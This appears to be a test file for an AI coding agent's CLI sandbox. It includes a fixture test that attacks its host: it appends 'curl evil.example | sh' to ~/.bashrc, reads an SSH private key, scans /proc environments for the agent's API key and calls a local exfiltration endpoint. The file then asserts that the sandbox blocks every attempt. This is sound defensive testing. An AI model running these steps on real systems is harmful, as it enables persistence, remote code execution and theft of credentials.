/**
 * The sandbox end to end through the built CLI: `--sandbox on --approve read,edit,execute`, a scripted model, and a
 * project whose own test file attacks (writes ~/.bashrc, reads ~/.ssh/id_rsa, reads the agent's environment
 * through /proc, calls home). None of it gets through, and the task still finishes verified.
 */
import { strict as assert } from 'node:assert';
import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import { parseRunArgs, UsageError } from '../../src/cli/runArgs';
import { makeTempDir } from '../support/testHost';
import { startScriptedServer, type ScriptedServer } from '../support/scriptedServer';

const cli = path.resolve(__dirname, '../../dist/cli.js');
const agentKey = 'sk-sandbox-e2e-agent-key-4242';

function runCli(args: string[], env: Record<string, string>): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [cli, ...args], { env: { ...process.env, OPENAI_BASE_URL: '', AUTO_AGENT_MODEL: '', NO_COLOR: '1', ...env } });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => { stdout += d.toString(); });
    child.stderr.on('data', (d: Buffer) => { stderr += d.toString(); });
    child.stdin.end('');
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

/** The attack, as a project's own test: every attempt is caught, so the suite passes either way; it prints what it got. */
function attackingTest(homePort: number): string {
  return `const test = require('node:test');
const fs = require('node:fs');
const os = require('node:os');
const http = require('node:http');
test('ordinary test that also attacks', async () => {
  try { fs.appendFileSync(os.homedir() + '/.bashrc', '\\ncurl evil.example | sh\\n'); console.log('ATTACK: wrote bashrc'); } catch (e) { console.log('bashrc: ' + e.code); }
  try { console.log('ATTACK: key ' + fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8')); } catch (e) { console.log('ssh: ' + e.code); }
  for (const pid of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) {
    try { if (fs.readFileSync('/proc/' + pid + '/environ', 'utf8').includes(${JSON.stringify(agentKey)})) console.log('ATTACK: agent environment of ' + pid); } catch {}
  }
  await new Promise((resolve) => {
    const req = http.get('http://127.0.0.1:${homePort}/exfiltrate', (res) => { console.log('ATTACK: called home ' + res.statusCode); res.resume(); resolve(); });
    req.on('error', (e) => { console.log('home: ' + e.code); resolve(); });
    req.setTimeout(3000, () => { req.destroy(); });
  });
});
`;
}

describe('auto-agent CLI with --sandbox on', function () {
  this.timeout(90_000);
  let server: ScriptedServer;
  let homeServer: http.Server;
  let homeHits = 0;
  let tmp: { dir: string; cleanup(): void };
  let home: string;

  before(async function () {
    if (!existsSync(cli)) throw new Error('dist/cli.js is missing: run `npm run build` first');
    homeServer = http.createServer((_req, res) => { homeHits++; res.end('thanks'); });
    await new Promise<void>((resolve) => homeServer.listen(0, '127.0.0.1', () => resolve()));
  });
  after(() => homeServer.close());
  beforeEach(async () => {
    server = await startScriptedServer();
    tmp = makeTempDir();
    home = realpathSync(mkdtempSync('/var/tmp/auto-agent-cli-home-'));
    mkdirSync(path.join(home, '.ssh'));
    writeFileSync(path.join(home, '.ssh', 'id_rsa'), '-----BEGIN KEY----- SSH-PRIVATE-MATERIAL');
    writeFileSync(path.join(home, '.bashrc'), '# the user\'s bashrc\n');
  });
  afterEach(async () => {
    await server.close();
    tmp.cleanup();
    rmSync(home, { recursive: true, force: true });
  });

  it('a project test that attacks does none of it, and the task still finishes verified without asking', async () => {
    const repo = path.join(tmp.dir, 'repo');
    mkdirSync(path.join(repo, 'test'), { recursive: true });
    writeFileSync(path.join(repo, 'package.json'), JSON.stringify({ name: 'p', version: '1.0.0', scripts: { test: 'node --test test/' } }));
    writeFileSync(path.join(repo, 'test', 'attack.test.js'), attackingTest((homeServer.address() as AddressInfo).port));
    server.enqueue(
      { toolCalls: [{ name: 'run_tests', arguments: {} }] },
      { toolCalls: [{ name: 'finish', arguments: { summary: 'The tests pass.' } }] },
    );
    const result = await runCli(
      ['run', '--workspace', repo, '--goal', 'Run the tests', '--check', 'npm test', '--base-url', server.url, '--model', 'test-model', '--sandbox', 'on', '--approve', 'read,edit,execute', '--json'],
      { HOME: home, XDG_CACHE_HOME: path.join(tmp.dir, 'cache'), OPENAI_API_KEY: agentKey },
    );
    assert.match(result.stderr, /Sandbox: on \(bubblewrap/);
    assert.equal(result.code, 0, `exit code; stderr:\n${result.stderr}`);
    const events = result.stdout.trim().split('\n').map((line) => JSON.parse(line) as { type: string; reason?: string; isVerified?: boolean; chunk?: string });
    const output = events.filter((e) => e.type === 'commandOutputStreamed').map((e) => e.chunk).join('');
    assert.match(output, /bashrc: EROFS/);
    assert.match(output, /ssh: (ENOENT|EACCES)/);
    assert.match(output, /home: (ECONNREFUSED|ENETUNREACH|EHOSTUNREACH)/);
    assert.doesNotMatch(output, /ATTACK/);
    assert.equal(readFileSync(path.join(home, '.bashrc'), 'utf8'), '# the user\'s bashrc\n');
    assert.equal(homeHits, 0);
    assert.equal(events.filter((e) => e.type === 'approvalRequested').length, 0);
    const last = events[events.length - 1];
    assert.deepEqual([last.type, last.reason, last.isVerified], ['taskFinished', 'completed', true]);
  });
});

describe('auto-agent run: the sandbox flags', () => {
  it('--sandbox takes auto, on or off (default auto); --approve takes sandboxed; --sandbox-host repeats', () => {
    const base = ['--goal', 'g'];
    assert.equal(parseRunArgs(base, '/w').sandboxMode, 'auto');
    assert.equal(parseRunArgs([...base, '--sandbox', 'on'], '/w').sandboxMode, 'on');
    assert.throws(() => parseRunArgs([...base, '--sandbox', 'maybe'], '/w'), UsageError);
    const sandboxed = parseRunArgs([...base, '--approve', 'read,edit,sandboxed', '--sandbox-host', 'registry.npmjs.org', '--sandbox-host', '*.example.com'], '/w');
    assert.deepEqual([sandboxed.autoApprove, sandboxed.isExecuteSandboxed, sandboxed.sandboxHosts], [['read', 'edit'], true, ['registry.npmjs.org', '*.example.com']]);
    assert.throws(() => parseRunArgs([...base, '--approve', 'read,sandboxy'], '/w'), /Use read, edit, execute, network, sandboxed/);
  });
});
